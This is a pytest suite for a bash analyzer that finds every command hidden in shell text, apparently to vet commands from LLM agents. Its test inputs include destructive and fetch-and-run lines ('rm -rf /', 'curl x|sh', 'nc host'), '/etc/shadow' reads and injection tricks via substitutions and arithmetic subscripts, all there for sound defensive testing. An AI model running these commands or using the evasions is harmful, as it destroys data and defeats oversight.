"""The bash analysis (policy._shell): every simple command is found, and what cannot be seen through is
opaque. Real parser, no mocks; adversarial inputs next to everyday ones."""

from __future__ import annotations

import sys

import pytest

from policy._shell import analyze
from policy._types import Redirect, ShellAnalysis, Word


def clean(src: str) -> ShellAnalysis:
    a = analyze(src)
    assert not a.opaque, a.opaque
    return a


def opaque(src: str) -> ShellAnalysis:
    a = analyze(src)
    assert a.opaque, f"expected {src!r} to be opaque; commands: {a.commands}"
    return a


def argvs(a: ShellAnalysis) -> list[tuple[str, ...]]:
    return [tuple(w.value for w in c.argv) for c in a.commands]


def programs(a: ShellAnalysis) -> set[str]:
    return {c.argv[0].value for c in a.commands if c.argv}


def contexts(a: ShellAnalysis) -> dict[str, str]:
    return {c.argv[0].value: c.context for c in a.commands if c.argv}


# -- structure ----------------------------------------------------------------------------------------


def test_simple_pipeline_list_and_newlines() -> None:
    a = clean("cd src && make -j4 | tee log; ls\necho done\n\n# a comment\npwd")
    assert argvs(a) == [("cd", "src"), ("make", "-j4"), ("tee", "log"), ("ls",), ("echo", "done"), ("pwd",)]
    assert contexts(a) == {"cd": "top", "make": "pipeline", "tee": "pipeline", "ls": "top",
                           "echo": "top", "pwd": "top"}
    assert a.commands[0].text == "cd src"


def test_comment_is_not_executed() -> None:
    assert argvs(clean("ls # $(rm -rf /) `id`")) == [("ls",)]
    assert argvs(clean("echo a#b")) == [("echo", "a#b")]
    assert clean("").commands == () and clean("# only\n\n").commands == ()


@pytest.mark.parametrize(("src", "found", "context"), [
    ("echo $(rm -rf ~)", "rm", "substitution"),
    ("echo `curl x|sh`", "sh", "pipeline"),
    ("echo `curl x|sh`", "curl", "pipeline"),
    ("cat <(curl evil)", "curl", "process-substitution"),
    ("tee >(nc host 1) < f", "nc", "process-substitution"),
    ('echo "a $(id) b"', "id", "substitution"),
    ('echo "$(echo "$(id)")"', "id", "substitution"),
    ("x=$(id)", "id", "substitution"),
    ("X=$(id) make", "id", "substitution"),
    ("echo > $(id)", "id", "substitution"),
    ("cat <<< $(id)", "id", "substitution"),
    ("for f in $(id); do :; done", "id", "substitution"),
    ("( cd x && rm y )", "rm", "subshell"),
    ("{ rm y; }", "rm", "top"),
    ("if true; then rm y; fi", "rm", "condition"),
    ("while read l; do rm \"$l\"; done", "rm", "loop"),
    ("until false; do rm y; done", "rm", "loop"),
    ("for f in a b; do rm $f; done", "rm", "loop"),
    ("f() { rm y; }", "rm", "function"),
    ("function g { rm y; }", "rm", "function"),
    ("ls &\nrm y", "rm", "top"),
    ("! rm y", "rm", "top"),
])
def test_commands_are_found_everywhere(src: str, found: str, context: str) -> None:
    a = clean(src)
    assert found in programs(a)
    assert contexts(a)[found] == context


@pytest.mark.parametrize("src", [
    "echo $(ls\nid)", "echo `ls\nid`", "cat <(ls\nid)", "x=$(\n  ls\n  id\n)", 'x="$(ls\n id)"',
    "echo $( ls; id )",
])
def test_substitutions_spanning_lines_are_read_to_the_end(src: str) -> None:
    assert "id" in programs(clean(src))  # bashlex alone keeps only the first line


def test_bash_c_is_reported_as_a_command() -> None:
    assert argvs(clean("bash -c 'rm -rf /'")) == [("bash", "-c", "rm -rf /")]


# -- what bashlex leaves unparsed -----------------------------------------------------------------------


@pytest.mark.parametrize("src", [
    "echo ${x:-$(id)}", "echo ${x:-`id`}", 'echo "${x:-$(id)}"', 'echo "${x:-`id`}"', "echo ${arr[$(id)]}",
    "echo ${x:-${y:-$(id)}}", "echo ${x/a/$(id)}", "echo ${x:$(id):1}", "echo ${x:=$(id)}",
    "cat <<EOF\n$(id)\nEOF\n", "cat <<EOF\n`id`\nEOF\n", "cat <<EOF\n${x:-$(id)}\nEOF\n",
    "cat <<-EOF\n\t$(id)\n\tEOF\n", "cat <<EOF\n$\\\n(id)\nEOF\n", "cat <<EOF | sh\nx\nEOF\nid",
    "[[ $(id) == x ]]", "[[ -f $(id) ]] && ls", "[[ x =~ ^$(id)$ ]]", "echo $(( $(id) + 1 ))",
    "(( x = $(id) ))", "for ((i = $(id); i < 3; i++)); do :; done", "case $(id) in a) ;; esac",
    "case x in $(id)) ;; esac", "case x in a) id;; esac", "a=(1 $(id))", "echo $( case x in a) id;; esac )",
    "x=$(cat <<EOF\n$(id)\nEOF\n)", "a[$(id)]=x cmd",
])
def test_substitutions_bashlex_does_not_parse_are_found(src: str) -> None:
    a = analyze(src)
    assert "id" in programs(a), (a.commands, a.opaque)


def test_context_of_unparsed_parts() -> None:
    assert contexts(clean("cat <<EOF\n$(id)\nEOF\n"))["id"] == "heredoc"
    assert contexts(clean("case $x in a|b) rm -rf /;; esac"))["rm"] == "condition"
    assert contexts(clean("[[ $(id) ]]"))["id"] == "substitution"


@pytest.mark.parametrize("src", [
    "cat <<'EOF' > f\n$(rm -rf /) `id` ${x:-$(id)}\nEOF\n",
    'cat <<"EOF"\n$(rm -rf /)\nEOF\n',
    "cat <<\\EOF\n$(rm -rf /)\nEOF\n",
    "cat <<-'EOF'\n\t$(rm -rf /)\n\tEOF\n",
    "python3 - <<'PY'\nimport os; print(f\"{os.getcwd()}\")\nPY\n",
    "echo '$(rm -rf /)' \"\\$(rm)\"",
    "msg='$(rm -rf /)'; echo \"$msg\"",  # bashlex parses $(…) inside quotes of an assignment
    "x=a'$(rm -rf /)'b",
])
def test_quoted_text_is_data(src: str) -> None:
    a = clean(src)
    assert "rm" not in programs(a) and "id" not in programs(a)


def test_heredocs_report_a_redirect_and_keep_following_commands() -> None:
    a = clean("cat <<'EOF' > out.txt\nline\nrm -rf /\nEOF\nls\ncat <<A <<B\na\nA\nb\nB\npwd")
    assert argvs(a) == [("cat",), ("ls",), ("cat",), ("pwd",)]
    assert a.commands[0].redirects == (Redirect("<<", None), Redirect(">", Word("out.txt", "out.txt", True)))
    assert a.commands[0].text == "cat <<'EOF' > out.txt"


@pytest.mark.parametrize("src", [
    "cat <<EOF\nno end", "cat <<'E O'\nx\nE O\n", "cat <<$X\nx\n$X\n", "cat <<EOF",
    "cat <<'EOF\"\nx\nEOF\n", "cat <<E'O'F\nx\nEOF\n", "cat <<EOF\r\nx\r\nEOF\r\n",
])
def test_odd_heredocs_are_opaque(src: str) -> None:
    opaque(src)


# -- constructs bashlex rejects, handled -------------------------------------------------------------


@pytest.mark.parametrize(("src", "expected"), [
    ("[[ -f x ]] && ls", [("ls",)]),
    ('[[ "$OSTYPE" == darwin* ]] || echo linux', [("echo", "linux")]),
    ("[[ $x =~ ^(a|b)+$ ]] && echo m", [("echo", "m")]),
    ("[[ a < b && ( -n x || ! -z y ) ]]", []),
    ("time git status", [("git", "status")]),
    ("time -p pytest -x", [("pytest", "-x")]),
    ("time (cd x && make)", [("cd", "x"), ("make",)]),
    ("echo time", [("echo", "time")]),
    ("echo $((1 + 2)) \"$((3 * 4))\"", [("echo", "$((1 + 2))", "$((3 * 4))")]),
    ("x=1; echo $((x+1))", [(), ("echo", "$((x+1))")]),
    ("for i in 1 2 3; do echo $((i * 2)); done", [("echo", "$((i * 2))")]),
    ("case \"$1\" in\n  start|run) ./run.sh ;;\n  (-h) echo usage ;&\n  *) exit 1 ;;\nesac",
     [("./run.sh",), ("echo", "usage"), ("exit", "1")]),
    ("select o in a b; do echo \"$o\"; break; done", [("echo", "$o"), ("break",)]),
    ("files=(*.py \"a b\"); echo ${#files[@]}", [(), ("echo", "${#files[@]}")]),
])
def test_constructs_llms_write_are_not_opaque(src: str, expected: list[tuple[str, ...]]) -> None:
    assert argvs(clean(src)) == expected


def test_cond_operators_are_not_redirections() -> None:
    a = clean("[[ a > b ]] && ls")
    assert all(not c.redirects for c in a.commands)


def test_arithmetic_commands_report_assignments() -> None:
    a = clean("(( count++ )); for ((i = 0; i < 3; i++)); do :; done")
    assigned = [n for c in a.commands for n, _ in c.assignments]
    assert assigned == ["count", "i", "i"]
    assert all(not w.literal for c in a.commands for _, w in c.assignments)


def test_compound_redirects_are_kept() -> None:
    a = clean("for f in a; do echo $f; done > out; { a; b; } 2>&1 >> log; while read l; do :; done < in")
    bare = [(c.context, c.redirects) for c in a.commands if not c.argv]
    assert bare == [
        ("loop", (Redirect(">", Word("out", "out", True)),)),
        ("top", (Redirect(">&", None, 2), Redirect(">>", Word("log", "log", True)))),
        ("loop", (Redirect("<", Word("in", "in", True)),)),
    ]
    assert clean("[[ -f x ]] > f").commands[0].redirects[0].op == ">"


# -- arithmetic evaluates variables ------------------------------------------------------------------


@pytest.mark.parametrize("src", [
    "f='a[$(id)]'; echo $((f))",
    "f='a[$(id)]'; g=f; echo $((g))",
    "for f in *; do echo $((f)); done",
    "for f in $(ls); do (( f > 1 )); done",
    "read n; echo $((n + 1))",
    "mapfile -t a < f; echo $((a))",
    "printf -v n '%s' \"$1\"; echo $((n))",
    "declare n=$1; echo $((n))",
    "n=$(cat f); [[ $n -gt 3 ]]",
    "n=$(cat f); echo ${x[n]}",
    "n=$(cat f); echo ${x:n}",
    "echo ${y:=$(cat f)} $((y))",
    "x=$(cat f); echo ${!x}",
    "x='$(id)'; echo ${x@P}",
    "x=$(cat f); let \"y = x\"",
    "x=$(cat f); [[ -v $x ]]",
    "read x; unset \"$x\"",
    "f() { echo $(( $1 + 1 )); }; f 'a[$(id)]'",
    "set -- $(cat f); echo $(( $1 ))",
    "declare -i n; n=$1",
    "select n in a b; do echo $((n)); done",
])
def test_arithmetic_on_untrusted_values_is_opaque(src: str) -> None:
    opaque(src)


@pytest.mark.parametrize("src", [
    "echo $((RANDOM % 6))", "echo $((HOME))", "x=3; y=$((x * 2)); echo $((y + x))", "(( $# > 0 ))",
    "for i in 1 2 3; do (( i > 1 )) && echo $i; done", "echo ${x:1:2} ${arr[2]} ${arr[i]}",
    "n=10; while (( n-- > 0 )); do :; done", "[[ $# -eq 0 ]] && exit 1", "echo $((16#ff + 0x10))",
    "add() { echo $(( $1 + $2 )); }; add 1 2", "x=$(cat f); (( x = 1 ))", "n=$((3 * 4)); echo $((n))",
])
def test_arithmetic_on_trusted_values_is_fine(src: str) -> None:
    clean(src)


def test_let_and_unset_evaluate_literal_subscripts() -> None:
    assert "id" in programs(analyze("let 'a[$(id)]=1'"))
    assert "id" in programs(analyze("unset 'a[$(id)]'"))
    assert "id" in programs(analyze("[[ -v a[$(id)] ]]"))


# -- words ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("raw", "value", "literal", "glob", "tilde"), [
    ("plain", "plain", True, False, False),
    ("'a b'", "a b", True, False, False),
    ('"a \\"b\\" \\$c \\x"', 'a "b" $c \\x', True, False, False),
    ("a\\ b\\*", "a b*", True, False, False),
    ('"r""m"', "rm", True, False, False),
    ("\\rm", "rm", True, False, False),
    ("'$(x)'", "$(x)", True, False, False),
    ('"*.py"', "*.py", True, False, False),
    ("*.py", "*.py", False, True, False),
    ("src/**/[ab]?.txt", "src/**/[ab]?.txt", False, True, False),
    ("'a'*", "a*", False, True, False),
    ("~", "~", True, False, True),
    ("~/x", "~/x", True, False, True),
    ('~/"a b"', "~/a b", True, False, True),
    ("~/*.py", "~/*.py", False, True, True),
    ("~root/x", "~root/x", False, False, False),
    ("a{b,c}", "a{b,c}", False, False, False),
    ("{1..3}", "{1..3}", False, False, False),
    ("{}", "{}", True, False, False),
    ("$HOME", "$HOME", False, False, False),
    ('"$HOME/x"', "$HOME/x", False, False, False),
    ("a$", "a$", True, False, False),
    ("[", "[", True, False, False),
])
def test_words(raw: str, value: str, literal: bool, glob: bool, tilde: bool) -> None:
    a = clean(f"echo {raw}")
    assert a.commands[0].argv[1] == Word(raw, value, literal, glob, tilde)


@pytest.mark.parametrize("src", ["echo $'\\x72m'", 'echo $"hello"', "a=$'\\x72m'; $a", "echo ${x:-$'a'}"])
def test_ansi_c_and_locale_quoting_are_opaque(src: str) -> None:
    opaque(src)


@pytest.mark.parametrize("src", [
    "$CMD", '"$(echo rm)" -rf /', "*", "{rm,-rf,/}", "${x:-rm} -rf /", "`echo rm` x", "~root/bin/x",
    "./$(echo x)", "r?",
])
def test_command_name_must_be_literal(src: str) -> None:
    opaque(src)


def test_literal_command_names() -> None:
    assert argvs(clean('"r""m" -rf /')) == [("rm", "-rf", "/")]
    assert argvs(clean("\\rm x")) == [("rm", "x")]
    assert clean("~/bin/tool").commands[0].argv[0] == Word("~/bin/tool", "~/bin/tool", True, tilde=True)


def test_functions() -> None:
    a = clean("build() { make -C \"$1\"; }\nbuild src; function t { pytest; }")
    assert a.functions == frozenset({"build", "t"})
    assert ("make", "-C", "$1") in argvs(a) and ("build", "src") in argvs(a)


# -- redirections and assignments ----------------------------------------------------------------------


def test_redirections() -> None:
    a = clean("cmd > a >> b < c 2> d &> e &>> f >| g <> h 2>&1 >&2 3<&0 4>&- <<< 'data' 9>i")
    got = [(r.op, r.target.value if r.target else None, r.fd) for r in a.commands[0].redirects]
    assert got == [(">", "a", None), (">>", "b", None), ("<", "c", None), (">", "d", 2), ("&>", "e", None),
                   ("&>>", "f", None), (">|", "g", None), ("<>", "h", None), (">&", None, 2),
                   (">&", None, None), ("<&", None, 3), (">&", None, 4), ("<<<", "data", None), (">", "i", 9)]
    writes = [r.writes for r in a.commands[0].redirects][:8]
    assert writes == [True, True, False, True, True, True, True, True]
    assert clean("ls >& out").commands[0].redirects == (Redirect(">&", Word("out", "out", True)),)
    assert clean("> f").commands[0].argv == ()


def test_assignments() -> None:
    a = clean("A=1 B=\"x y\" cmd; C=$(pwd); PATH+=:/opt; arr[2]=v; export D=1 E")
    assert a.commands[0].assignments == (("A", Word("1", "1", True)), ("B", Word('"x y"', "x y", True)))
    assert [n for c in a.commands for n, _ in c.assignments] == ["A", "B", "C", "PATH", "arr"]
    assert ("export", "D=1", "E") in argvs(a)
    assert clean("X=*").commands[0].assignments == (("X", Word("*", "*", True)),)


# -- robustness ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("src", [
    "echo (", "ls ;; ls", "if true; then", "echo 'unterminated", 'echo "unterminated', "echo $(", "echo ${x",
    "coproc cat", "echo $[1+2]", "echo `echo \\`id\\``", "echo $\\\n(id)", "case x in", "[[ -f x",
    "x" * 100_001,
])
def test_unparseable_is_opaque(src: str) -> None:
    opaque(src)


@pytest.mark.parametrize("src", [
    'echo "${x:-"}"}"; id',  # bash and bashlex disagree on where ${ ends
    "echo ${x:-'}'}; id",
    "alias ls='rm -rf ~'\nls",
    "ls\0; rm -rf /",
    "time",
    "[[ x ]] foo",
    "echo $( (id) ) $(( x",
])
def test_disagreements_and_traps_are_opaque(src: str) -> None:
    opaque(src)


def test_pathological_nesting_is_fast() -> None:
    import time

    for src in ["echo " + "$(( (" * 200, "echo " + "$(( $(" * 200, "[[ $( " * 200, "case $( " * 200]:
        start = time.perf_counter()
        opaque(src)
        assert time.perf_counter() - start < 3


def test_deep_nesting_does_not_raise() -> None:
    opaque("echo " + "$(" * 400 + "id" + ")" * 400)
    assert isinstance(analyze("(" * 2000 + "ls" + ")" * 2000), ShellAnalysis)
    assert isinstance(analyze("${" * 500), ShellAnalysis)


def test_not_a_string() -> None:
    assert analyze(None).opaque  # type: ignore[arg-type]


def test_analysis_is_cached_and_deterministic() -> None:
    src = "git status && echo $(date)"
    assert analyze(src) is analyze(src)
    assert analyze(src) == analyze(str(src))


def test_import_does_not_load_bashlex() -> None:
    import subprocess

    code = "import sys, policy._shell; print('bashlex' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


# -- loop variables over plain words ---------------------------------------------------------------


def test_quoted_loop_variable_takes_the_loop_words() -> None:
    a = analyze('for f in src/*.py; do wc -l "$f"; done')
    assert not a.opaque
    (wc,) = a.commands
    assert wc.argv[2].glob and wc.argv[2].value == "src/*.py"


def test_loop_variable_gives_one_command_per_value_and_redirect_targets() -> None:
    a = analyze('for f in a.txt b.txt; do cat "$f" > "${f}"; done')
    assert [(c.argv[1].value, c.redirects[0].target.value if c.redirects[0].target else None)
            for c in a.commands] == [("a.txt", "a.txt"), ("a.txt", "b.txt"), ("b.txt", "a.txt"), ("b.txt", "b.txt")]


def test_loop_variable_set_elsewhere_or_used_before_the_loop_stays_unknown() -> None:
    before = analyze('cat "$f"; for f in a; do :; done')
    assert not before.commands[0].argv[1].literal
    assigned = analyze('f=/etc/shadow; for f in a; do cat "$f"; done')
    assert not assigned.commands[-1].argv[1].literal
    unquoted = analyze("for f in a; do cat $f; done")
    assert not unquoted.commands[0].argv[1].literal
    from_subst = analyze('for f in $(ls); do cat "$f"; done')
    assert not from_subst.commands[-1].argv[1].literal


@pytest.mark.parametrize(
    ("source", "opaque"),
    [
        ("echo $( marker0 # $(x) )\nmarker1", True),  # the comment swallows `)`: bash reports a syntax error
        ("echo $(ls # x\n)", True),
        ("x=$(echo a # )\nid\n)", True),  # valid bash (ends at the 2nd `)`), but opaque rather than guessed
        ("echo `ls # x`", True),
        ("echo $(date) # a note after the substitution", False),
        ('echo "$(date) # inside quotes, not a comment"', False),
        ("echo $((16#ff))", False),  # a base in arithmetic, not a comment
        ("echo ${#x} $(echo ${x#a})", False),
        ("x=$(echo a#b)", False),  # `#` inside a word
        ("echo $(echo '# quoted')", False),
        ("ls # see $(x) # y", False),  # all of it a top-level comment
    ],
)
def test_comments_inside_substitutions_are_opaque(source: str, opaque: bool) -> None:
    reasons = analyze(source).opaque
    assert any("comment inside a command substitution" in r for r in reasons) is opaque, reasons
